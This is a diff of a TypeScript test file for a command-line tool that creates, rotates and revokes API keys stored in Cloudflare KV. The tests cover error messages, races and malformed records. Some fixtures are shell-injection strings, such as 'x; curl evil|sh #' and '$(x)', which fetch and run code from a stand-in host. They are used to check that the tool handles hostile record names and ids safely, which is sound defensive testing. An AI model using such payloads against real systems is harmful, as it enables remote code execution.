@@ -75,7 +75,7 @@ A rotation at the same time can undo this. Look again in two minutes: npm run ke
   vi.setSystemTime('2027-02-01');
   const again = `Key key_anna (Anna) was already revoked at ${NOW}.\n`;
   const second = await fake.run('revoke key_anna --env production');
-  expect(second).toEqual({ code: 0, stdout: again, stderr: '' });
+  expect(second).toMatchObject({ code: 0, stdout: again, stderr: '' });
   expect(fake.records()).toEqual([{ ...expired, revokedAt: NOW }]);
 });
 
@@ -103,7 +103,7 @@ test('a change that KV shows late is no error, and one that it does not show is'
   fake.put(ANNA);
   const change = { ...ANNA, revokedAt: NOW };
   let gets = 0;
-  fake.beforePut = () => true;
+  fake.losesPuts = true;
   fake.beforeGet = () => {
     gets += 1;
     if (gets === 5) fake.put(change);
@@ -113,7 +113,7 @@ test('a change that KV shows late is no error, and one that it does not show is'
   fake.put(ANNA);
   const stderr =
     'error: KV does not show the change of key_anna (Anna): list the keys before you repeat it\n';
-  expect(await fake.run('revoke key_anna')).toEqual({ code: 1, stdout: '', stderr });
+  expect(await fake.run('revoke key_anna')).toMatchObject({ code: 1, stdout: '', stderr });
 });
 
 test('a rotated key keeps the label, lifetime, scopes and family of the first one', async () => {
@@ -126,11 +126,23 @@ test('a rotated key keeps the label, lifetime, scopes and family of the first on
   const id = fake.records()[1]?.id;
   await fake.run(`rotate ${id} --env production --yes`);
   const next = { ...first, createdAt: NOW, family: 'key_anna' };
+  const [, , third] = fake.records();
   expect(fake.records()).toEqual([
-    { ...first, expiresAt },
-    { ...next, id, expiresAt: '2027-02-01T00:00:00.000Z' },
+    { ...first, expiresAt, rotatedTo: id },
+    { ...next, id, expiresAt: '2027-02-01T00:00:00.000Z', rotatedTo: third?.id },
     { ...next, id: NEW_ID, expiresAt: '2027-05-01T00:00:00.000Z' },
   ]);
+});
+
+test('a key that was rotated is not rotated again, but the one that has replaced it is', async () => {
+  fake.put(ANNA);
+  await fake.run('rotate key_anna');
+  const lost = fake.records()[1]?.id;
+  expect(await errorOf(1, 'rotate key_anna')).toBe(
+    `error: the key key_anna (Anna) was replaced by ${lost}: rotate that one\n`,
+  );
+  expect(await fake.run(`rotate ${lost}`)).toMatchObject({ code: 0 });
+  expect(fake.records()[2]).toMatchObject({ family: 'key_anna' });
 });
 
 test('a key whose record has a mistake is rotated with the scope read alone', async () => {
@@ -139,17 +151,21 @@ test('a key whose record has a mistake is rotated with the scope read alone', as
   expect(fake.records()[1]).toMatchObject({ family: 'key_anna', scopes: ['read'] });
 });
 
-const failKv = () => {
-  throw new Error('KV fails');
-};
+function failPutOf(id: string): void {
+  fake.beforePut = (name) => {
+    if (name === nameOf(id)) throw new Error('KV fails');
+  };
+}
 const REVOKED = { ...ANNA, revokedAt: NOW };
 
 test('a rotation whose last change fails has printed a valid key', async () => {
   fake.put(ANNA);
-  fake.beforePut = (name) => name === nameOf('key_anna') && failKv();
+  failPutOf('key_anna');
   const { code, stdout, stderr } = await fake.run('rotate key_anna');
   expect([code, fake.values.has(await recordName(stdout.trimEnd()))]).toEqual([1, true]);
   expect(stderr).toMatch(/\nerror: KV fails\n$/);
+  // It can be rotated again.
+  expect(fake.records()[0]).toEqual(ANNA);
 });
 
 test('a key that another operator revokes before the answer is not rotated', async () => {
@@ -205,6 +221,21 @@ test('a label of 100 characters is accepted, but not one of 101', async () => {
   expect(fake.records()).toMatchObject([{ label }]);
 });
 
+test('only in Cloudflare, an unknown id may be one that is not listed yet', async () => {
+  const problem = 'error: there is no key with the id "key_x"';
+  expect(await errorOf(1, 'revoke key_x')).toBe(`${problem}\n`);
+  expect(await errorOf(1, 'rotate key_x --env staging')).toContain(`${problem}: a new key is `);
+});
+
+test('each step that takes seconds is announced', async () => {
+  const { progress: create } = await fake.run('create --label Anna');
+  const { progress: rotate } = await fake.run(`rotate ${fake.records()[0]?.id}`);
+  const issue = 'Writing the record of the new key …';
+  expect(create).toEqual([issue]);
+  const change = expect.stringMatching(/^Changing the record of \w+ \(Anna\) …$/);
+  expect(rotate).toEqual(['Reading the keys …', issue, change]);
+});
+
 test('a key that is passed as an argument is refused, and not printed', async () => {
   const errors = (await errorOf(2, KEY)) + (await errorOf(1, `revoke ${KEY}`));
   expect(errors).toContain("unknown command 'animal_…'");
@@ -215,7 +246,7 @@ test('revoke finds no key of another environment, and none without a record', as
   const other = await errorOf(1, 'revoke --env staging', `${KEY}\n`);
   const unknown = await errorOf(1, 'revoke', `${KEY}\n`);
   expect(other).toContain('it is not an API key of --env staging: paste the key alone');
-  expect(unknown).toContain(`KV has no valid record '${await recordName(KEY)}'`);
+  expect(unknown).toContain(`KV has no valid record ${await recordName(KEY)}.`);
   expect(other + unknown).not.toContain(KEY);
   // Without a terminal, there is no question.
   expect(await errorOf(1, 'revoke')).toBe(
@@ -223,31 +254,39 @@ test('revoke finds no key of another environment, and none without a record', as
   );
 });
 
-const QUOTE = "key:x'; curl evil|sh #\u001b";
-test.each<[title: string, name: string, value: string]>([
-  ['no JSON', nameOf('x'), 'x'],
-  ['null', nameOf('x'), 'null'],
-  ['no label', nameOf('x'), JSON.stringify({ ...ANNA, label: undefined })],
-  ['an id for a shell', nameOf('x'), JSON.stringify({ ...ANNA, id: 'x; curl evil|sh #' })],
-  ['an id that is an option', nameOf('x'), JSON.stringify({ ...ANNA, id: '--yes' })],
-  ['an id of 65 characters', nameOf('x'), JSON.stringify({ ...ANNA, id: 'x'.repeat(65) })],
-  ['a family for a shell', nameOf('x'), JSON.stringify({ ...ANNA, family: '$(x)' })],
-  ['a name for a shell', QUOTE, JSON.stringify({ ...ANNA, id: 'x' })],
+const HASH = nameOf('x');
+const DELETE = `KV has no valid record ${HASH}. To delete it: npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging`;
+const ODD_NAME = 'KV has an invalid name: delete "key:x\'; curl evil|sh #\uFFFD" in the dashboard';
+test.each<[title: string, name: string, value: string, error: string]>([
+  ['no JSON', HASH, 'x', DELETE],
+  ['null', HASH, 'null', DELETE],
+  ['no label', HASH, JSON.stringify({ ...ANNA, label: undefined }), DELETE],
+  ['an id for a shell', HASH, JSON.stringify({ ...ANNA, id: 'x; curl evil|sh #' }), DELETE],
+  ['an id that is an option', HASH, JSON.stringify({ ...ANNA, id: '--yes' }), DELETE],
+  ['an id of 65 characters', HASH, JSON.stringify({ ...ANNA, id: 'x'.repeat(65) }), DELETE],
+  ['a family for a shell', HASH, JSON.stringify({ ...ANNA, family: '$(x)' }), DELETE],
+  ['a name for a shell', "key:x'; curl evil|sh #\u001b", JSON.stringify(ANNA), ODD_NAME],
 ])('a record with %s fails each command, and other keys change all the same', async (...row) => {
-  const [, name, value] = row;
+  const [, name, value, error] = row;
   fake.put({ ...ANNA, id: 'key_bob' });
   fake.put(ANNA);
   fake.values.set(name, value);
-  const quoted = name === QUOTE ? "'key:x'\\''; curl evil|sh #\uFFFD'" : `'${name}'`;
-  const command = `npx wrangler kv key delete ${quoted} --binding API_KEYS --remote --env staging`;
-  const error = `error: KV has no valid record ${quoted}. To delete it: ${command}\n`;
   const list = await fake.run('list --env staging');
   const revoke = await fake.run('revoke key_anna --env staging');
   const rotate = await fake.run('rotate key_bob --env staging');
   for (const { code, stderr } of [list, revoke, rotate])
-    expect([code, stderr.includes(error)]).toEqual([1, true]);
+    expect([code, stderr.includes(`error: ${error}\n`)]).toEqual([1, true]);
   const [bob, anna] = fake.values.values();
   expect([bob, anna]).toEqual([expect.stringContaining('expiresAt'), JSON.stringify(REVOKED)]);
+});
+
+test('a planted record that is too large for the metadata is revoked, and backups lack it', async () => {
+  const planted = { ...ANNA, note: 'x'.repeat(999_999) };
+  fake.put(planted);
+  const { code, stderr } = await fake.run('revoke key_anna');
+  const warning = 'Backups leave out the record of key_anna (Anna): it has over 1,024 bytes.\n';
+  expect([code, stderr]).toEqual([0, warning]);
+  expect(fake.records()).toEqual([{ ...planted, revokedAt: NOW }]);
 });
 
 test('an id that several records have is revoked in all, and not rotated', async () => {
@@ -256,7 +295,7 @@ test('an id that several records have is revoked in all, and not rotated', async
   const names = `Records with this id: ${nameOf('key_anna')}, ${nameOf('planted')}\n`;
   const refusal = 'error: several records have the id key_anna: revoke it, and create a key\n';
   expect(await errorOf(1, 'rotate key_anna')).toBe(names + refusal);
-  fake.beforePut = (name) => name === nameOf('key_anna') && failKv();
+  failPutOf('key_anna');
   const { code, stdout, stderr } = await fake.run('revoke key_anna');
   expect([code, stderr]).toEqual([1, `${names}error: KV fails\n`]);
   expect(stdout).toContain('Key key_anna (Planted) is revoked.');
